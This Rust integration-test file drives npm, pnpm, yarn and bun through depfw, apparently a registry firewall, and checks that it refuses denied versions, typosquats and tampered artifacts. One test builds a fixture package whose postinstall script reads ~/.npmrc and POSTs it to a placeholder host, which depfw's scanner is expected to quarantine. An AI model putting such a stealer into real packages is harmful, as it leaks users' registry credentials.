//! The real npm client through depfw, against the hermetic fixture registry.
//!
//! Each test starts the fixture registry and depfw in-process on 127.0.0.1:0 and runs
//! `npm` (or pnpm, yarn berry, bun) with isolated cache and config.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;

use crate::client::{self, combined};
use crate::require::{BUN, NPM, PNPM, YARN};
use crate::support::registry::{self, Depfw, FixtureState, TestCheck};

pub(crate) struct Env {
    pub(crate) depfw: Depfw,
    pub(crate) fixture: Arc<FixtureState>,
    tmp: tempfile::TempDir,
    pub(crate) project: PathBuf,
    caches: std::cell::Cell<u32>,
    // Last: dropped after the servers' handles, stopping them.
    _rt: tokio::runtime::Runtime,
}

fn start(check: TestCheck) -> Env {
    start_with(registry::policy(check))
}

pub(crate) fn start_with(policy: depfw::server::PolicyState) -> Env {
    start_in(policy, "")
}

/// [`start_with`] with more `[server]` keys (`refused-versions = "yank"`).
pub(crate) fn start_in(policy: depfw::server::PolicyState, server: &str) -> Env {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let (fixture, depfw) = rt.block_on(async {
        let (upstream, fixture) = registry::start_fixture().await;
        let depfw = registry::start_depfw_with(&upstream, policy, server, "").await;
        (fixture, depfw)
    });
    let tmp = tempfile::tempdir().unwrap();
    let project = tmp.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("package.json"),
        r#"{"name": "depfw-it", "version": "1.0.0", "private": true}"#,
    )
    .unwrap();
    Env {
        depfw,
        fixture,
        tmp,
        project,
        caches: std::cell::Cell::new(0),
        _rt: rt,
    }
}

impl Env {
    /// Runs npm in the project with a fresh cache (so every run goes through depfw).
    pub(crate) fn npm(&self, args: &[&str]) -> Output {
        let n = self.caches.get() + 1;
        self.caches.set(n);
        let cache = self.tmp.path().join(format!("cache-{n}"));
        self.npm_with_cache(args, &cache)
    }

    /// Runs npm in the project with its cache in `cache`.
    pub(crate) fn npm_with_cache(&self, args: &[&str], cache: &Path) -> Output {
        let global = self.tmp.path().join("globalnpmrc");
        let registry = format!("{}/npm/", self.depfw.base);
        let mut cmd = client::npm_against(&registry, cache, &global);
        cmd.args(args).current_dir(&self.project);
        client::output(&mut cmd)
    }

    /// Runs another client (pnpm, yarn, bun) in the project with `HOME` and caches under
    /// the test's temp dir; the registry comes from the project config written by the test.
    fn client(&self, tool: &str, args: &[&str], envs: &[(&str, String)]) -> Output {
        let home = self.tmp.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let mut cmd = client::command(tool, &["npm_config_", "yarn_"]);
        cmd.args(args).current_dir(&self.project);
        client::isolated_home(&mut cmd, &home);
        for (k, v) in envs {
            cmd.env(k, v);
        }
        client::output(&mut cmd)
    }

    fn registry(&self) -> String {
        format!("{}/npm/", self.depfw.base)
    }

    fn installed(&self, name: &str) -> Option<String> {
        let manifest = self
            .project
            .join("node_modules")
            .join(name)
            .join("package.json");
        let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(manifest).ok()?).ok()?;
        doc["version"].as_str().map(str::to_owned)
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn lockfile(project: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(project.join("package-lock.json")).unwrap()).unwrap()
}

fn deny(specs: &[&str]) -> TestCheck {
    TestCheck {
        deny: specs.iter().map(|s| s.to_string()).collect(),
        ..TestCheck::default()
    }
}

fn allowed_package_installs_through_depfw() {
    let env = start(TestCheck::default());
    let out = env.npm(&["install", "is-number@7"]);
    assert!(out.status.success());
    assert_eq!(env.installed("is-number").as_deref(), Some("7.0.0"));
    let lock = lockfile(&env.project);
    let resolved = lock["packages"]["node_modules/is-number"]["resolved"]
        .as_str()
        .unwrap();
    assert_eq!(
        resolved,
        format!("{}/npm/is-number/-/is-number-7.0.0.tgz", env.depfw.base)
    );
    assert_eq!(env.fixture.hits("/is-number/-/is-number-7.0.0.tgz"), 1);
}

fn range_resolves_to_the_newest_allowed_version() {
    let env = start(deny(&["is-odd@3.0.1"]));
    let out = env.npm(&["install", "is-odd@^3"]);
    assert!(out.status.success());
    assert_eq!(env.installed("is-odd").as_deref(), Some("3.0.0"));
    assert_eq!(env.installed("is-number").as_deref(), Some("6.0.0"));
}

fn exact_pin_of_a_denied_version_is_etarget() {
    let env = start(deny(&["is-odd@3.0.1"]));
    let out = env.npm(&["install", "is-odd@3.0.1"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("ETARGET"), "{}", stderr(&out));
    assert_eq!(env.installed("is-odd"), None);
}

fn typosquat_name_is_refused_with_depfws_reason() {
    let env = start(TestCheck {
        deny_names: vec!["is-nunber".into()],
        ..TestCheck::default()
    });
    let out = env.npm(&["install", "is-nunber"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("E403"), "{err}");
    assert!(
        err.contains("is-nunber is denied by policy: possible-typosquat"),
        "{err}"
    );
    assert!(err.contains("To ask for an exception"), "{err}");
}

fn tampered_artifact_is_refused() {
    let env = start(TestCheck::default());
    env.fixture
        .tamper
        .lock()
        .unwrap()
        .insert("ms-2.1.3.tgz".into());
    let out = env.npm(&["install", "ms@2.1.3"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("integrity mismatch"), "{err}");
    assert_eq!(env.installed("ms"), None);
    let last = env
        .depfw
        .state
        .decisions()
        .list(0, 100)
        .unwrap()
        .pop()
        .unwrap();
    assert_eq!(last.outcome, "integrity-mismatch");
}

/// A release whose digest is genuine but whose postinstall runs a file that reads
/// `~/.npmrc` (nx 21.5.0's shape): npm shows depfw's reason, naming the file and the rule.
fn content_rule_refusal_names_the_file_and_rule() {
    use depfw::policy::content::{ContentConfig, ContentLedger, ContentRules};
    use std::io::Write as _;
    let check: Arc<dyn depfw::policy::Check> = Arc::new(TestCheck::default());
    let policy = depfw::policy::Policy::new(vec![check], Arc::default(), "content".into())
        .with_content(Arc::new(ContentRules {
            cfg: ContentConfig::default(),
            ledger: ContentLedger::default(),
        }));
    let env = start_with(depfw::server::PolicyState::Ready(policy));
    let mut tar = tar::Builder::new(Vec::new());
    for (path, bytes) in [
        (
            "package/package.json",
            &br#"{"name":"is-odd","version":"3.0.1","scripts":{"postinstall":"node telemetry.js"}}"#[..],
        ),
        (
            "package/telemetry.js",
            b"const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://example.invalid/', {method: 'POST', body: t});\n",
        ),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, path, bytes).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&tar.into_inner().unwrap()).unwrap();
    env.fixture
        .replaced
        .lock()
        .unwrap()
        .insert("is-odd-3.0.1.tgz".into(), gz.finish().unwrap());
    let out = env.npm(&["install", "is-odd@3.0.1"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("E403"), "{err}");
    assert!(
        err.contains("is-odd@3.0.1 is quarantined, awaiting approval: script-credential-access: package/telemetry.js"),
        "{err}"
    );
    assert_eq!(env.installed("is-odd"), None);
}

fn lockfile_install_of_a_denied_version_is_refused_at_the_gate() {
    let env = start(TestCheck::default());
    assert!(env.npm(&["install", "is-odd@3.0.1"]).status.success());
    std::fs::remove_dir_all(env.project.join("node_modules")).unwrap();
    // The version turns bad after it was locked.
    env.depfw
        .state
        .set_policy(registry::policy(deny(&["is-odd@3.0.1"])));
    let out = env.npm(&["ci"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("E403"), "{err}");
    assert!(
        err.contains("is-odd@3.0.1 is denied by policy: deny-listed"),
        "{err}"
    );
    // npm prints the whole refusal: the safe alternative and how to ask a human (#12).
    assert!(
        err.contains("Nearest allowed version: is-odd@3.0.0"),
        "{err}"
    );
    assert!(err.contains("request_approval"), "{err}");
    assert_eq!(env.installed("is-odd"), None);
    let refused = env
        .depfw
        .state
        .decisions()
        .list(0, 100)
        .unwrap()
        .into_iter()
        .find(|r| r.outcome == "refused")
        .unwrap();
    assert_eq!(refused.client.command.as_deref(), Some("ci"));
}

fn scoped_package_installs_and_its_denied_version_is_skipped() {
    let env = start(deny(&["@isaacs/string-locale-compare@1.1.0"]));
    let out = env.npm(&["install", "@isaacs/string-locale-compare"]);
    assert!(out.status.success());
    assert_eq!(
        env.installed("@isaacs/string-locale-compare").as_deref(),
        Some("1.0.1")
    );
}

const SCOPED: &str = "@isaacs/string-locale-compare";

fn client_check() -> TestCheck {
    deny(&["is-odd@3.0.1", "@isaacs/string-locale-compare@1.1.0"])
}

fn client_resolves_around_denied_versions(client: Client, no_match: &str) {
    let env = start(client_check());
    let out = client.run(&env, &["add", "is-odd@^3", SCOPED]);
    assert!(out.status.success(), "{}", combined(&out));
    assert_eq!(env.installed("is-odd").as_deref(), Some("3.0.0"));
    assert_eq!(env.installed(SCOPED).as_deref(), Some("1.0.1"));
    let out = client.run(&env, &["add", "is-odd@3.0.1"]);
    assert!(!out.status.success());
    assert!(combined(&out).contains(no_match), "{}", combined(&out));
}

fn pnpm_resolves_around_denied_versions() {
    client_resolves_around_denied_versions(Client::Pnpm, "NO_MATCHING_VERSION");
}

fn yarn_berry_resolves_around_denied_versions() {
    client_resolves_around_denied_versions(Client::Yarn, "No candidates found");
}

fn bun_resolves_around_denied_versions() {
    client_resolves_around_denied_versions(Client::Bun, "No version matching");
}

/// With `server.refused-versions = "yank"` a refused version stays listed, deprecated with
/// depfw's reason: a range must still resolve to the newest allowed version, not to it.
fn yank_mode_range_resolves_around_refused_versions(client: Option<Client>) {
    let env = start_in(registry::policy(client_check()), crate::pypi::YANK);
    let out = match client {
        Some(client) => client.run(&env, &["add", "is-odd@^3", SCOPED]),
        None => env.npm(&["install", "is-odd@^3", SCOPED]),
    };
    assert!(out.status.success(), "{}", combined(&out));
    assert_eq!(env.installed("is-odd").as_deref(), Some("3.0.0"));
    assert_eq!(env.installed(SCOPED).as_deref(), Some("1.0.1"));
}

fn npm_yank_mode_range_resolves_around_refused_versions() {
    yank_mode_range_resolves_around_refused_versions(None);
}

fn pnpm_yank_mode_range_resolves_around_refused_versions() {
    yank_mode_range_resolves_around_refused_versions(Some(Client::Pnpm));
}

fn yarn_berry_yank_mode_range_resolves_around_refused_versions() {
    yank_mode_range_resolves_around_refused_versions(Some(Client::Yarn));
}

fn bun_yank_mode_range_resolves_around_refused_versions() {
    yank_mode_range_resolves_around_refused_versions(Some(Client::Bun));
}

/// The non-npm clients, each configured to reach depfw only and to keep its store/cache in
/// the test's temp dir, so that clearing those makes the next install really download.
#[derive(Clone, Copy)]
pub(crate) enum Client {
    Pnpm,
    Yarn,
    Bun,
}

impl Client {
    fn tool(self) -> &'static str {
        match self {
            Client::Pnpm => "pnpm",
            Client::Yarn => "yarn",
            Client::Bun => "bun",
        }
    }

    /// Writes the project config for this client and returns the environment it needs.
    fn configure(self, env: &Env) -> Vec<(&'static str, String)> {
        match self {
            Client::Pnpm => {
                std::fs::write(
                    env.project.join(".npmrc"),
                    format!("registry={}\nfetch-retries=0\n", env.registry()),
                )
                .unwrap();
                // pnpm 12 reads its settings from pnpm-workspace.yaml and ignores a store
                // dir in .npmrc: the store goes there, inside the temp dir that
                // `forget_downloads` clears. Written once, so a test can add settings.
                let workspace = env.project.join("pnpm-workspace.yaml");
                if !workspace.exists() {
                    std::fs::write(workspace, pnpm_workspace(env, "")).unwrap();
                }
                vec![]
            }
            Client::Yarn => {
                std::fs::write(
                    env.project.join(".yarnrc.yml"),
                    format!(
                        "npmRegistryServer: \"{}\"\nunsafeHttpWhitelist:\n  - \"127.0.0.1\"\n\
                         enableGlobalCache: false\nenableMirror: false\nenableTelemetry: false\n\
                         nodeLinker: node-modules\n",
                        env.registry()
                    ),
                )
                .unwrap();
                if !env.project.join("yarn.lock").exists() {
                    std::fs::write(env.project.join("yarn.lock"), "").unwrap();
                }
                vec![]
            }
            Client::Bun => vec![
                ("NPM_CONFIG_REGISTRY", env.registry()),
                (
                    "BUN_INSTALL_CACHE_DIR",
                    env.tmp.path().join("bun-cache").display().to_string(),
                ),
            ],
        }
    }

    pub(crate) fn run(self, env: &Env, args: &[&str]) -> Output {
        let envs = self.configure(env);
        env.client(self.tool(), args, &envs)
    }

    /// The lockfile-only install that must not re-resolve.
    fn frozen_install(self) -> &'static [&'static str] {
        match self {
            Client::Pnpm => &["install", "--frozen-lockfile"],
            Client::Yarn => &["install", "--immutable"],
            Client::Bun => &["install", "--frozen-lockfile"],
        }
    }

    /// Drops everything installed or cached, keeping package.json and the lockfile.
    fn forget_downloads(self, env: &Env) {
        let dirs = [
            env.project.join("node_modules"),
            env.project.join(".yarn"),
            env.project.join(".pnp.cjs"),
            env.tmp.path().join("pnpm-store"),
            env.tmp.path().join("bun-cache"),
            env.tmp.path().join("home").join(".cache"),
        ];
        for dir in dirs {
            if dir.is_dir() {
                std::fs::remove_dir_all(&dir).unwrap();
            } else if dir.exists() {
                std::fs::remove_file(&dir).unwrap();
            }
        }
    }
}

/// pnpm-workspace.yaml with the test's store dir, no retries (a refused download is final;
/// pnpm would otherwise back off for a minute) and `extra` settings.
pub(crate) fn pnpm_workspace(env: &Env, extra: &str) -> String {
    let store = env.tmp.path().join("pnpm-store");
    format!(
        "storeDir: \"{}\"\nfetchRetries: 0\n{extra}",
        store.display()
    )
}

fn records(env: &Env) -> Vec<depfw::store::decisions::DecisionRecord> {
    env.depfw.state.decisions().list(0, 1000).unwrap()
}

fn client_refuses_typosquat(client: Client) {
    let env = start(TestCheck {
        deny_names: vec!["is-nunber".into()],
        ..TestCheck::default()
    });
    let out = client.run(&env, &["add", "is-nunber"]);
    assert!(!out.status.success(), "{}", combined(&out));
    // pnpm and yarn print the status line's reason phrase, which carries depfw's reason;
    // bun prints only "403" (README, "What each client shows").
    if matches!(client, Client::Pnpm | Client::Yarn) {
        let text = combined(&out);
        assert!(text.contains("is-nunber is denied by policy"), "{text}");
    }
    assert_eq!(env.installed("is-nunber"), None);
    let refused = records(&env)
        .into_iter()
        .find(|r| r.package == "is-nunber" && r.outcome == "refused");
    assert!(refused.is_some(), "{:?}", records(&env));
}

fn client_refuses_tampered_artifact(client: Client) {
    let env = start(TestCheck::default());
    env.fixture
        .tamper
        .lock()
        .unwrap()
        .insert("ms-2.1.3.tgz".into());
    let out = client.run(&env, &["add", "ms@2.1.3"]);
    assert!(!out.status.success(), "{}", combined(&out));
    assert_eq!(env.installed("ms"), None);
    assert!(
        records(&env)
            .iter()
            .any(|r| r.package == "ms" && r.outcome == "integrity-mismatch"),
        "{:?}",
        records(&env)
    );
}

fn client_lockfile_install_is_refused_at_the_gate(client: Client) {
    let env = start(TestCheck::default());
    let out = client.run(&env, &["add", "is-odd@3.0.1"]);
    assert!(out.status.success(), "{}", combined(&out));
    client.forget_downloads(&env);
    // The version turns bad after it was locked.
    env.depfw
        .state
        .set_policy(registry::policy(deny(&["is-odd@3.0.1"])));
    if let Client::Pnpm = client {
        // pnpm (v12) checks every lockfile entry against its default minimumReleaseAge,
        // re-reading the metadata: depfw's filtered packument lacks 3.0.1, so the frozen
        // install would fail there (ERR_PNPM_MINIMUM_RELEASE_AGE_VIOLATION, "version not
        // present in registry manifest"), before the artifact gate. Off for this install.
        // (With it off, a bare `pnpm add` still gets the newest allowed version: see
        // `pnpm_add_without_a_range_installs_the_newest_allowed_version`.)
        std::fs::write(
            env.project.join("pnpm-workspace.yaml"),
            pnpm_workspace(&env, "minimumReleaseAge: 0\n"),
        )
        .unwrap();
    }
    let before = records(&env).len();
    let out = client.run(&env, client.frozen_install());
    assert!(!out.status.success(), "{}", combined(&out));
    // yarn prints the reason phrase of a refused tarball; pnpm and bun only its status.
    if let Client::Yarn = client {
        let text = combined(&out);
        assert!(text.contains("is-odd@3.0.1 is denied by policy"), "{text}");
    }
    assert_eq!(env.installed("is-odd"), None);
    let refused = records(&env).into_iter().skip(before).find(|r| {
        r.package == "is-odd" && r.version.as_deref() == Some("3.0.1") && r.outcome == "refused"
    });
    assert!(refused.is_some(), "{:?}", records(&env));
}

fn pnpm_typosquat_name_is_refused() {
    client_refuses_typosquat(Client::Pnpm);
}

fn yarn_berry_typosquat_name_is_refused() {
    client_refuses_typosquat(Client::Yarn);
}

fn bun_typosquat_name_is_refused() {
    client_refuses_typosquat(Client::Bun);
}

fn pnpm_tampered_artifact_is_refused() {
    client_refuses_tampered_artifact(Client::Pnpm);
}

fn yarn_berry_tampered_artifact_is_refused() {
    client_refuses_tampered_artifact(Client::Yarn);
}

fn bun_tampered_artifact_is_refused() {
    client_refuses_tampered_artifact(Client::Bun);
}

fn pnpm_frozen_lockfile_install_of_a_denied_version_is_refused_at_the_gate() {
    client_lockfile_install_is_refused_at_the_gate(Client::Pnpm);
}

fn yarn_berry_immutable_install_of_a_denied_version_is_refused_at_the_gate() {
    client_lockfile_install_is_refused_at_the_gate(Client::Yarn);
}

fn bun_frozen_lockfile_install_of_a_denied_version_is_refused_at_the_gate() {
    client_lockfile_install_is_refused_at_the_gate(Client::Bun);
}

/// A bare `pnpm add <name>` (no range) installs the newest version depfw allows, whichever
/// request the pnpm release makes to find it: pnpm 12 asks for the `latest` version
/// document (`GET /<name>/latest`, answered from the filtered packument; covered on the
/// router in `tests/proxy/router.rs`), pnpm 10.34 reads `dist-tags` from the packument.
/// `minimumReleaseAge: 0` keeps pnpm's own cooldown out of the way.
fn pnpm_add_without_a_range_installs_the_newest_allowed_version() {
    let env = start(deny(&["is-odd@3.0.1"]));
    std::fs::write(
        env.project.join("pnpm-workspace.yaml"),
        pnpm_workspace(&env, "minimumReleaseAge: 0\n"),
    )
    .unwrap();
    let out = Client::Pnpm.run(&env, &["add", "is-odd"]);
    assert!(out.status.success(), "{}", combined(&out));
    assert_eq!(env.installed("is-odd").as_deref(), Some("3.0.0"));
    let lock = std::fs::read_to_string(env.project.join("pnpm-lock.yaml")).unwrap();
    assert!(lock.contains("is-odd@3.0.0"), "{lock}");
    assert!(!lock.contains("3.0.1"), "{lock}");
    assert_eq!(env.fixture.hits("/is-odd/-/is-odd-3.0.1.tgz"), 0);
}

fn npm_view_latest_is_the_newest_allowed_version() {
    let env = start(deny(&["is-odd@3.0.1"]));
    let out = env.npm(&["view", "is-odd@latest", "version"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "3.0.0");
}

/// Issue #11: depfw answered npm's audit request with `{}`, so `npm audit` printed "found 0
/// vulnerabilities" for every project. Now it fails, and says what to run instead.
fn npm_audit_through_depfw_is_an_error_not_an_all_clear() {
    let env = start(TestCheck::default());
    // `npm install` audits too (unless --no-audit): the failed audit must not fail it.
    let cache = env.tmp.path().join("cache-audit");
    let mut install = client::command("npm", &["npm_config_"]);
    install
        .args(["install", "is-number@7", "--audit=true", "--no-fund"])
        .arg(format!("--registry={}", env.registry()))
        .arg(format!("--cache={}", cache.display()))
        .args(["--userconfig=/dev/null", "--fetch-retries=0"])
        .current_dir(&env.project);
    let installed = client::output(&mut install);
    assert!(installed.status.success(), "{}", combined(&installed));
    assert_eq!(env.installed("is-number").as_deref(), Some("7.0.0"));
    let out = env.npm(&["audit", "--audit=true"]);
    let text = combined(&out);
    assert!(!out.status.success(), "{text}");
    assert!(!text.contains("found 0 vulnerabilities"), "{text}");
    assert!(text.contains("audit endpoint returned an error"), "{text}");
}

crate::require::trials! {
    [NPM] =>
        npm_audit_through_depfw_is_an_error_not_an_all_clear,
        allowed_package_installs_through_depfw,
        range_resolves_to_the_newest_allowed_version,
        exact_pin_of_a_denied_version_is_etarget,
        typosquat_name_is_refused_with_depfws_reason,
        tampered_artifact_is_refused,
        content_rule_refusal_names_the_file_and_rule,
        lockfile_install_of_a_denied_version_is_refused_at_the_gate,
        scoped_package_installs_and_its_denied_version_is_skipped,
        npm_view_latest_is_the_newest_allowed_version,
        npm_yank_mode_range_resolves_around_refused_versions;
    [PNPM] =>
        pnpm_resolves_around_denied_versions,
        pnpm_typosquat_name_is_refused,
        pnpm_tampered_artifact_is_refused,
        pnpm_frozen_lockfile_install_of_a_denied_version_is_refused_at_the_gate,
        pnpm_add_without_a_range_installs_the_newest_allowed_version,
        pnpm_yank_mode_range_resolves_around_refused_versions;
    [YARN] =>
        yarn_berry_resolves_around_denied_versions,
        yarn_berry_typosquat_name_is_refused,
        yarn_berry_tampered_artifact_is_refused,
        yarn_berry_immutable_install_of_a_denied_version_is_refused_at_the_gate,
        yarn_berry_yank_mode_range_resolves_around_refused_versions;
    [BUN] =>
        bun_resolves_around_denied_versions,
        bun_typosquat_name_is_refused,
        bun_tampered_artifact_is_refused,
        bun_frozen_lockfile_install_of_a_denied_version_is_refused_at_the_gate,
        bun_yank_mode_range_resolves_around_refused_versions;
}
